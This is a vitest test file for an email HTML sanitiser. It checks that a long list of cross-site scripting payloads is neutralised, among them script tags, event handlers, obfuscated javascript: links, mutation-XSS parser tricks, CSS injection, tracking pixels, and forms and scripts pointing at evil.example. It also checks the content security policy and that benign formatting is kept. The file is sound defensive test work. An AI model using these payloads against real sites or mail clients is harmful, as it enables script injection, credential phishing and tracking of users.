import { Parser } from "htmlparser2"
import { describe, expect, test, vi } from "vitest"
import { spentOn } from "../../../../engine/bench/measure.ts"
import { type HtmlOptions, sanitiseHtml } from "./sanitise-html.ts"

const QUIET: HtmlOptions = { picture: () => null, remote: false }
const bodyOf = (html: string, options = QUIET) =>
  /<body>\n([\s\S]*)\n<\/body>/.exec(sanitiseHtml(html, options).html)?.[1] ?? ""

const TAGS = new Set(
  "a abbr address article aside b bdi bdo big blockquote br caption center cite code col colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6 header hr i img ins kbd li main mark ol p pre q s samp section small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr".split(
    " ",
  ),
)
const ATTRIBUTES = new Set(
  "style dir lang align href target rel title src alt width height border cellpadding cellspacing bgcolor valign colspan rowspan nowrap span color face size start type reversed value".split(
    " ",
  ),
)

/** What a browser could act on in `html` and should not; read by a parser, not by the rules that wrote it. */
function dangers(html: string): string[] {
  const found: string[] = []
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!TAGS.has(name)) found.push(`<${name}>`)
      for (const [attribute, value] of Object.entries(attributes)) {
        if (!ATTRIBUTES.has(attribute)) found.push(`${name} ${attribute}`)
        if (attribute === "href" && !/^(https?:\/\/|mailto:|tel:)/i.test(value)) found.push(`href ${value}`)
        if (attribute === "href" && (attributes["target"] !== "_blank" || !attributes["rel"]?.includes("noopener")))
          found.push("a link without noopener")
        if (attribute === "src" && !/^data:image\/(png|jpeg|gif|webp|avif|bmp);base64,/i.test(value))
          found.push(`src ${value}`)
        if (attribute === "style" && /url|expression|import|position|@|\\|behavior|binding|javascript/i.test(value))
          found.push(`style ${value}`)
      }
    },
    oncomment: () => found.push("a comment"),
    onprocessinginstruction: (name) => found.push(name),
  })
  parser.write(html)
  parser.end()
  return found
}

const HOSTILE: readonly string[] = [
  `<script>alert(1)</script>`,
  `<ScRiPt src=//evil.example/x.js></ScRiPt>`,
  `<script/x>alert(1)</script >`,
  `<<script>alert(1)//<</script>`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `<img src=x onerror=alert(1)>`,
  `<img src="x" ONERROR = "alert(1)" >`,
  `<img/src=x/onerror=alert(1)>`,
  `<body onload=alert(1)>hi</body>`,
  `<svg onload=alert(1)></svg>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
  `<svg><animate attributeName=href values=javascript:alert(1) /></svg>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="java&#10;script:alert(1)">x</a>`,
  `<a href="&#106;&#97;vascript:alert(1)">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="\u0001javascript:alert(1)">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="/api/v1/setup">into the desk</a>`,
  `<a href="//evil.example">no scheme</a>`,
  `<a href="\\\\evil.example">back slashes</a>`,
  `<a href="https://ok.example" target="_self" rel="opener" ping="https://evil.example">x</a>`,
  `<iframe src="https://evil.example"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="https://evil.example/x.swf"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<form action="https://evil.example"><input name=password><button>OK</button></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<base href="https://evil.example/"><a href="x">x</a>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/x) }</style>`,
  `<style><!--</style><script>alert(1)</script>-->`,
  `<p style="background:url(https://evil.example/x)">x</p>`,
  `<p style="background:u\\72l(https://evil.example/x)">x</p>`,
  `<p style="width:expression(alert(1))">x</p>`,
  `<p style="behavior:url(x.htc);-moz-binding:url(x)">x</p>`,
  `<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>`,
  `<p style="color:red/**/;background:image-set('https://evil.example/x' 1x)">x</p>`,
  `<p style='font-family:"x;background:url(https://evil.example/x)'>x</p>`,
  `<table background="https://evil.example/x"><tr><td background="https://evil.example/y">x</td></tr></table>`,
  `<img srcset="https://evil.example/x 2x" alt=x>`,
  `<picture><source srcset="https://evil.example/x"><img src="https://evil.example/y"></picture>`,
  `<img src="https://evil.example/pixel.gif" width=1 height=1>`,
  `<img src="//evil.example/pixel.gif">`,
  `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<img src="data:text/html;base64,PHNjcmlwdD4=">`,
  `<img src="javascript:alert(1)">`,
  `<img src="/api/v1/me">`,
  `<img src="cid:unknown">`,
  `<video poster="https://evil.example/x"><source src="https://evil.example/y"></video>`,
  `<audio src="https://evil.example/x" autoplay></audio>`,
  `<input type=image src="https://evil.example/x">`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<div contenteditable onfocus=alert(1) autofocus tabindex=1>x</div>`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`,
  `<template><img src=x onerror=alert(1)></template>`,
  `<textarea><img src=x onerror=alert(1)></textarea>`,
  `<title><img src=x onerror=alert(1)></title>`,
  `<xmp><img src=x onerror=alert(1)></xmp>`,
  `<plaintext><img src=x onerror=alert(1)>`,
  `<!--[if IE]><script>alert(1)</script><![endif]-->`,
  `<!--><img src=x onerror=alert(1)>-->`,
  `<?xml-stylesheet href="javascript:alert(1)"?>`,
  `<![CDATA[<img src=x onerror=alert(1)>]]>`,
  `<p title="<img src=x onerror=alert(1)>">x</p>`,
  `<a title='"><img src=x onerror=alert(1)>' href="https://ok.example">x</a>`,
  `<p id="location" name="document">clobber</p>`,
  `<p class="app-root">borrow the desk's look</p>`,
  `<portal src="https://evil.example"></portal>`,
  `<isindex action="javascript:alert(1)">`,
  `</body></html><script>alert(1)</script>`,
  `<p\u0000 onclick\u0000=alert(1)>x</p>`,
  // What two parsers read in two ways, and what changes when it is read again.
  `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`,
  `<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>`,
  `<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>`,
  `<textarea>x</textarea><!--</textarea><img src=x onerror=alert(1)>-->`,
  `<select><option><style></option></select><img src=x onerror=alert(1)></style>`,
  `<option><iframe></select><script>alert(1)</script>`,
  `<template><s><template><s><img src=x onerror=alert(1)></s></template></s></template>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>`,
  `<svg><title><img src=x onerror=alert(1)></title></svg>`,
  `<svg><desc><style><img src=x onerror=alert(1)></style></desc></svg>`,
  `<svg><style><!--</style><img src=x onerror=alert(1)>--></svg>`,
  `<table><svg><td><style><img title="</style><img src=x onerror=alert(1)>"></td></svg></table>`,
  `<b><style><style/><img src=x onerror=alert(1)>`,
  `<img src=x id/=' onerror=alert(1)//'>`,
  `<p is="x-y" xml:base="javascript:alert(1)//" onclick=alert(1)>x</p>`,
  `<form><input name=attributes><input name=parentNode onfocus=alert(1) autofocus></form>`,
  `<a href="javascript&NewLine;&Tab;:alert(1)">x</a>`,
  ...["a0", "1680", "180e", "2000", "200b", "2028", "2029", "202f", "205f", "3000", "feff"].map(
    (blank) => `<a href="&#x${blank};javascript:alert(1)">x</a>`,
  ),
]

describe("What a mail may not do in the frame", () => {
  test.each(HOSTILE)("%s", (snippet) => {
    const warnings = vi.spyOn(console, "warn")
    expect(dangers(bodyOf(snippet))).toEqual([])
    expect(dangers(bodyOf(`<p>before</p>${snippet}<p>after</p>`))).toEqual([])
    expect(bodyOf(`<p>before</p>${snippet}`)).toContain("before")
    expect(warnings).not.toHaveBeenCalled()
    warnings.mockRestore()
  })

  test("All of it together, cut anywhere", () => {
    const all = HOSTILE.join("")
    for (let end = 0; end < all.length; end += 37) expect(dangers(bodyOf(all.slice(0, end)))).toEqual([])
  })

  test("The policy forbids what the rules might miss, and the document carries it too", () => {
    const { html, policy } = sanitiseHtml("<p>x</p>", QUIET)
    expect(policy).toBe(
      "default-src 'none'; img-src data:; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'; frame-ancestors 'self'; sandbox allow-popups allow-popups-to-escape-sandbox",
    )
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data:;`)
  })
})

describe("What a mail may do", () => {
  test("Words, tables, colours and links stay", () => {
    expect(
      bodyOf(
        `<h1 style="color: #c00; FONT-SIZE: 20px">Hi</h1><table width="600" bgcolor="#eee"><tr><td colspan=2>x</td></tr></table>`,
      ),
    ).toBe(
      `<h1 style="color: #c00; font-size: 20px">Hi</h1><table width="600" bgcolor="#eee"><tr><td colspan="2">x</td></tr></table>`,
    )
    expect(bodyOf(`<a href="https://ok.example/a?b=1&amp;c=2">x</a>`)).toBe(
      `<a href="https://ok.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">x</a>`,
    )
  })

  test("Pictures that came with the mail are shown", () => {
    const picture = (id: string) => (id === "logo@x" ? "data:image/png;base64,aGVsbG8=" : null)
    expect(bodyOf(`<img src="cid:logo%40x" alt="logo">`, { picture, remote: false })).toBe(
      `<img alt="logo" src="data:image/png;base64,aGVsbG8=" />`,
    )
  })

  test("Pictures from elsewhere are counted and left out, and come only when they were asked for, encrypted", () => {
    const html = `<img src="http://a.example/x.png" alt="a"><img src="https://a.example/y.png"><p style="background: url('https://a.example/z')">x</p><td background=//a.example/w>`
    const blocked = sanitiseHtml(html, QUIET)
    expect(blocked.blocked).toBe(4)
    expect(blocked.html).not.toContain("a.example")
    expect(bodyOf(html)).toMatch(/<span style="[^"]*">a<\/span>/)
    const shown = sanitiseHtml(html, { ...QUIET, remote: true })
    expect(shown.blocked).toBe(2)
    expect(shown.html).toContain(`src="https://a.example/x.png"`)
    expect(shown.html).not.toContain("http://")
    expect(shown.policy).toContain("img-src data: https:;")
  })

  test("Huge and deep HTML takes no long time", async () => {
    const { own } = await spentOn(() => {
      for (const html of [
        "<div>".repeat(49_000),
        "<b>x</i>".repeat(24_000),
        "<p style='color:red;'>".repeat(20_000),
        `<p style="${"a:b;".repeat(400_000)}">`,
        "<".repeat(1_000_000),
      ]) {
        expect(dangers(bodyOf(html))).toEqual([])
      }
    })
    expect(own).toBeLessThan(10_000)
  })
})
